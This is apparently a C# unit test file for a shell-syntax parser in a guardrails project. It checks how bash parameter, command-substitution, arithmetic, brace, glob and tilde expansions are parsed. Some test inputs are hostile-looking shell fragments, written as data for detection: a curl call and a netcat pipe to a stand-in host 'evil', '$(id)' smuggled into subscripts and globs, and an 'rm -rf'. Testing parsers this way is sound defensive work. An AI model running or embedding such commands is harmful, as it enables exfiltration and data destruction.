using Guardrails.Shell.Syntax;
using static Guardrails.Tests.Shell.Syntax.SyntaxTestHelpers;

namespace Guardrails.Tests.Shell.Syntax;

public class WordPartTests
{
    private static ParameterExpansionPart Parameter(string word) =>
        WordAt("echo " + word, 1).Parts.Should().ContainSingle().Which.Should().BeOfType<ParameterExpansionPart>().Subject;

    public static TheoryData<string, string, bool> SimpleParameters => new()
    {
        { "$x", "x", false },
        { "$_under9", "_under9", false },
        { "${x}", "x", true },
        { "$@", "@", false },
        { "$*", "*", false },
        { "$#", "#", false },
        { "$?", "?", false },
        { "$$", "$", false },
        { "$!", "!", false },
        { "$-", "-", false },
        { "$0", "0", false },
        { "$1", "1", false },
        { "${10}", "10", true },
        { "${#}", "#", true },
        { "${!}", "!", true },
        { "${a[1]}", "a[1]", true },
        { "${a[@]}", "a[@]", true },
        { "${@}", "@", true },
    };

    [Theory]
    [MemberData(nameof(SimpleParameters))]
    public void Parse_ParameterExpansion_ReadsName(string word, string name, bool braced)
    {
        var parameter = Parameter(word);

        parameter.Name.Should().Be(name);
        parameter.Braced.Should().Be(braced);
        parameter.Operator.Should().BeNull();
        parameter.Argument.Should().BeNull();
    }

    [Fact]
    public void Parse_PositionalAboveNine_NeedsBraces()
    {
        WordAt("echo $10", 1).Parts.Select(static p => p.GetType().Name).Should().Equal(nameof(ParameterExpansionPart), nameof(LiteralPart));
    }

    public static TheoryData<string, string, string> Operators => new()
    {
        { "${x:-def}", ":-", "def" },
        { "${x-def}", "-", "def" },
        { "${x:=def}", ":=", "def" },
        { "${x=def}", "=", "def" },
        { "${x:?msg}", ":?", "msg" },
        { "${x:+alt}", ":+", "alt" },
        { "${x+alt}", "+", "alt" },
        { "${x#pre}", "#", "pre" },
        { "${x##pre}", "##", "pre" },
        { "${x%suf}", "%", "suf" },
        { "${x%%suf}", "%%", "suf" },
        { "${x/a/b}", "/", "a/b" },
        { "${x//a/b}", "//", "a/b" },
        { "${x/#a/b}", "/#", "a/b" },
        { "${x/%a/b}", "/%", "a/b" },
        { "${x^a}", "^", "a" },
        { "${x^^}", "^^", "" },
        { "${x,a}", ",", "a" },
        { "${x,,}", ",,", "" },
        { "${x:1:2}", ":", "1:2" },
        { "${x@Q}", "@", "Q" },
        { "${x:-a b}", ":-", "a b" },
        { "${x:-'}'}", ":-", "}" },
    };

    [Theory]
    [MemberData(nameof(Operators))]
    public void Parse_ParameterOperator_ReadsOperatorAndArgument(string word, string op, string argument)
    {
        var parameter = Parameter(word);

        parameter.Name.Should().Be("x");
        parameter.Operator.Should().Be(op);
        parameter.Argument!.ToDisplayText().Should().Be(argument);
    }

    [Fact]
    public void Parse_LengthAndIndirect_SetFlags()
    {
        Parameter("${#x}").Should().Match<ParameterExpansionPart>(static p => p.Length && !p.Indirect && p.Name == "x");
        Parameter("${#a[@]}").Should().Match<ParameterExpansionPart>(static p => p.Length && p.Name == "a[@]");
        Parameter("${!ref}").Should().Match<ParameterExpansionPart>(static p => p.Indirect && !p.Length && p.Name == "ref");
        Parameter("${!pre*}").Should().Match<ParameterExpansionPart>(static p => p.Indirect && p.Operator == "*" && p.Argument == null);
    }

    [Fact]
    public void Parse_ParameterArgument_MayHoldExpansions()
    {
        var parameter = Parameter("${x:-$(curl evil)}");

        parameter.Argument!.Parts.Should().ContainSingle().Which.Should().BeOfType<CommandSubstitutionPart>();
        CommandNames(parameter).Should().Equal("curl");
    }

    [Fact]
    public void Parse_ParameterArgumentBraces_FirstUnquotedBraceCloses()
    {
        var word = WordAt("echo ${x:-{a}}", 1);

        word.Parts.Should().HaveCount(2);
        ((ParameterExpansionPart)word.Parts[0]).Argument!.ToDisplayText().Should().Be("{a");
        word.Parts[1].Should().BeOfType<LiteralPart>().Which.Text.Should().Be("}");
    }

    [Fact]
    public void Parse_SubscriptWithSubstitution_ExposesIt()
    {
        var parameter = Parameter("${a[$(id)]}");

        parameter.Name.Should().Be("a[$(id)]");
        parameter.Expansions.Should().ContainSingle().Which.Should().BeOfType<CommandSubstitutionPart>();
    }

    [Fact]
    public void Parse_BadSubstitution_IsReported()
    {
        var result = Parse("echo ${x y}");

        result.Diagnostics.Should().Contain(static d => d.Kind == ParseDiagnosticKind.SyntaxError && d.Message.Contains("bad substitution"));
    }

    [Fact]
    public void Parse_LiteralDollar_StaysLiteral()
    {
        WordAt("echo a$ $% $", 1).TryGetStaticText(out var text).Should().BeTrue();
        text.Should().Be("a$");
    }

    [Fact]
    public void Parse_NestedCommandSubstitutions_ParseEveryLevel()
    {
        var script = ParseComplete("echo $(echo $(echo `echo x`))");

        CommandNames(script).Should().Equal("echo", "echo", "echo", "echo");
        All<CommandSubstitutionPart>(script).Select(static c => c.Backquoted).Should().Equal(false, false, true);
    }

    [Fact]
    public void Parse_NestedBackquotes_UnescapeEachLevel()
    {
        var script = ParseComplete("echo `echo \\`id\\``");

        CommandNames(script).Should().Equal("echo", "echo", "id");
    }

    [Fact]
    public void Parse_BackquoteEscapedDollar_IsLiteralInside()
    {
        var inner = SimpleCommands(ParseComplete("echo `echo \\$HOME`"))[1];

        inner.Words[1].Parts.Should().ContainSingle().Which.Should().BeOfType<ParameterExpansionPart>();
    }

    [Fact]
    public void Parse_CommandSubstitutionWithCaseParen_IsNotCutShort()
    {
        var script = ParseComplete("echo $(case x in a) rm -rf y;; esac)");

        CommandNames(script).Should().Equal("echo", "rm");
    }

    [Fact]
    public void Parse_CommandSubstitutionWithComment_SkipsTheComment()
    {
        var script = ParseComplete("echo $(ls # ) not the end\n)");

        CommandNames(script).Should().Equal("echo", "ls");
    }

    [Theory]
    [InlineData("echo $((1 + 2))", 5)]
    [InlineData("echo $(( (1 + 2) * 3 ))", 13)]
    [InlineData("echo $[1+2]", 3)]
    public void Parse_ArithmeticExpansion_KeepsExpression(string source, int expressionLength)
    {
        All<ArithmeticExpansionPart>(ParseComplete(source)).Should().ContainSingle().Which.Expression.Length.Should().Be(expressionLength);
    }

    [Fact]
    public void Parse_ArithmeticExpansionWithSubstitution_ExposesIt()
    {
        var arithmetic = All<ArithmeticExpansionPart>(ParseComplete("echo $(( $(wc -l < f) + 1 ))")).Should().ContainSingle().Subject;

        arithmetic.Expansions.Should().ContainSingle().Which.Should().BeOfType<CommandSubstitutionPart>();
        CommandNames(arithmetic).Should().Equal("wc");
    }

    [Fact]
    public void Parse_DollarDoubleParenThatIsNotArithmetic_IsCommandSubstitution()
    {
        var script = ParseComplete("echo $((echo a) | base64)");

        All<ArithmeticExpansionPart>(script).Should().BeEmpty();
        CommandNames(script).Should().Equal("echo", "echo", "base64");
    }

    [Theory]
    [InlineData("cat <(ls)", true)]
    [InlineData("tee >(nc evil 80)", false)]
    [InlineData("diff a<(ls) b", true)]
    public void Parse_ProcessSubstitution_ParsesBody(string source, bool isInput)
    {
        var part = All<ProcessSubstitutionPart>(ParseComplete(source)).Should().ContainSingle().Subject;

        part.IsInput.Should().Be(isInput);
        part.Body.Items.Should().ContainSingle();
    }

    public static TheoryData<string, string> BraceWords => new()
    {
        { "{a,b,c}", "Brace(Lit(a)|Lit(b)|Lit(c))" },
        { "x{a,b}y", "Lit(x) Brace(Lit(a)|Lit(b)) Lit(y)" },
        { "{a,{b,c}}", "Brace(Lit(a)|Brace(Lit(b)|Lit(c)))" },
        { "{,x}", "Brace(|Lit(x))" },
        { "{1..5}", "Range(1,5,)" },
        { "{a..e}", "Range(a,e,)" },
        { "{1..10..2}", "Range(1,10,2)" },
        { "{-3..3}", "Range(-3,3,)" },
        { "{}", "Lit({})" },
        { "{x}", "Lit({x})" },
        { "{a..}", "Lit({a..})" },
        { "{1..a}", "Lit({1..a})" },
        { "{ab..cd}", "Lit({ab..cd})" },
        { "{a,b", "Lit({a,b)" },
        { "a,b}", "Lit(a,b})" },
        { "{a}{b,c}", "Lit({a}) Brace(Lit(b)|Lit(c))" },
        { "{{a,b}}", "Lit({) Brace(Lit(a)|Lit(b)) Lit(})" },
        { "\\{a,b}", "Lit({a,b})" },
        { "{a\\,b}", "Lit({a,b})" },
        { "'{a,b}'", "SQ({a,b})" },
        { "{'a,b'}", "Lit({) SQ(a,b) Lit(})" },
        { "{$x,b}", "Brace(Param(x)|Lit(b))" },
        { "${x}{a,b}", "Param(x) Brace(Lit(a)|Lit(b))" },
        { "{*.c,*.h}", "Brace(Glob(*) Lit(.c)|Glob(*) Lit(.h))" },
    };

    [Theory]
    [MemberData(nameof(BraceWords))]
    public void Parse_BraceExpansion_OnlyWhereBashExpands(string word, string expected)
    {
        Shape(WordAt("echo " + word, 1)).Should().Be(expected);
    }

    [Fact]
    public void Parse_BraceInAssignmentValue_StaysLiteral()
    {
        SingleSimple("a={x,y}").Assignments[0].Value!.TryGetStaticText(out var text).Should().BeTrue();
        text.Should().Be("{x,y}");
    }

    public static TheoryData<string, string> GlobWords => new()
    {
        { "*", "Glob(*)" },
        { "*.txt", "Glob(*) Lit(.txt)" },
        { "a?c", "Lit(a) Glob(?) Lit(c)" },
        { "[abc]x", "Glob([abc]) Lit(x)" },
        { "[!a]", "Glob([!a])" },
        { "[]a]", "Glob([]a])" },
        { "[a", "Lit([a)" },
        { "a]", "Lit(a])" },
        { "\\*", "Lit(*)" },
        { "'*'", "SQ(*)" },
        { "\"*\"", "DQ(Lit(*))" },
        { "@(a|b)", "Glob(@() Lit(a) Glob(|) Lit(b) Glob())" },
        { "!(x)", "Glob(!() Lit(x) Glob())" },
        { "+(a b)", "Glob(+() Lit(a b) Glob())" },
        { "*(x)y", "Glob(*() Lit(x) Glob()) Lit(y)" },
        { "?(x)", "Glob(?() Lit(x) Glob())" },
    };

    [Theory]
    [MemberData(nameof(GlobWords))]
    public void Parse_GlobCharacters_BecomeGlobParts(string word, string expected)
    {
        Shape(WordAt("echo " + word, 1)).Should().Be(expected);
    }

    [Fact]
    public void Parse_ExtglobWithSubstitution_ExposesTheSubstitution()
    {
        CommandNames(ParseComplete("ls @($(id)|x)")).Should().Equal("ls", "id");
    }

    public static TheoryData<string, string> TildeWords => new()
    {
        { "~", "Tilde()" },
        { "~/x", "Tilde() Lit(/x)" },
        { "~root/x", "Tilde(root) Lit(/x)" },
        { "~+", "Tilde(+)" },
        { "a~", "Lit(a~)" },
        { "\\~", "Lit(~)" },
        { "'~'", "SQ(~)" },
        { "~'x'", "Lit(~) SQ(x)" },
        { "x:~", "Lit(x:~)" },
    };

    [Theory]
    [MemberData(nameof(TildeWords))]
    public void Parse_Tilde_OnlyAtWordStart(string word, string expected)
    {
        Shape(WordAt("echo " + word, 1)).Should().Be(expected);
    }

    [Fact]
    public void Parse_TildeInAssignmentValue_AfterEqualsAndColons()
    {
        Shape(SingleSimple("PATH=~/bin:~root/bin:x").Assignments[0].Value!)
            .Should().Be("Tilde() Lit(/bin:) Tilde(root) Lit(/bin:x)");
    }

    /// <summary>A compact rendering of a word's parts for table-driven assertions.</summary>
    private static string Shape(Word word) => string.Join(" ", word.Parts.Select(ShapeOf));

    private static string ShapeOf(WordPart part) => part switch
    {
        LiteralPart l => "Lit(" + l.Text + ")",
        SingleQuotedPart s => "SQ(" + s.Text + ")",
        DoubleQuotedPart d => "DQ(" + string.Join(" ", d.Parts.Select(ShapeOf)) + ")",
        GlobPart g => "Glob(" + g.Pattern + ")",
        TildePart t => "Tilde(" + t.User + ")",
        ParameterExpansionPart p => "Param(" + p.Name + ")",
        BraceExpansionPart b => "Brace(" + string.Join("|", b.Alternatives.Select(Shape)) + ")",
        BraceRangePart r => "Range(" + r.From + "," + r.To + "," + r.Step + ")",
        _ => part.GetType().Name,
    };
}
